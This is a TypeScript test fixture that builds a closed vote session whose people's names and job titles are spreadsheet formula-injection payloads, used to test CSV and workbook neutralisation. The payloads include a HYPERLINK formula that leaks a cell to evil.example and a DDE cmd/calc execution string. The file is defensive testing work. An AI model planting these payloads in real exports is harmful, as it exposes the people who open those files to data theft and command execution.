/**
 * A closed session whose people are named as formulas a spreadsheet would run, for the tests of
 * the CSV's neutralisation and of the workbook's text cells.
 */
import { eq } from 'drizzle-orm';
import { subject } from '../db/schema';
import { anonymousBallots } from '../exports/ballots';
import { exportData } from '../exports/index';
import { closeVoteSession, sessionById } from '../sessions/lifecycle';
import { castChoices, openSession } from './fixtures';

/** Names a spreadsheet would run as formulas (OWASP's CSV injection), and their job titles. */
export const FORMULA_NAMES: [string, string][] = [
	['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+84 912 345 678'],
	["-2+3+cmd|' /C calc'!A0", '@SUM(1+1)'],
	['\t=1+1', '\r=1+1']
];

/** A closed vote whose three people carry `FORMULA_NAMES`, one ballot marking the first high. */
export async function formulaNamedSession() {
	const { db, sessionId, cards, subjectIds } = await openSession({ cards: 1, subjects: 3 });
	subjectIds.forEach((id, index) => {
		const [fullName, jobTitle] = FORMULA_NAMES[index]!;
		db.update(subject).set({ fullName, jobTitle }).where(eq(subject.id, id)).run();
	});
	castChoices(
		db,
		{ kind: 'token', value: cards[0]!.token },
		new Map([[subjectIds[0]!, 'high']]),
		'F'.repeat(22)
	);
	closeVoteSession(db, sessionId);
	const session = sessionById(db, sessionId)!;
	const data = exportData(db, session);
	return { ...data, ballots: anonymousBallots(db, data.report) };
}
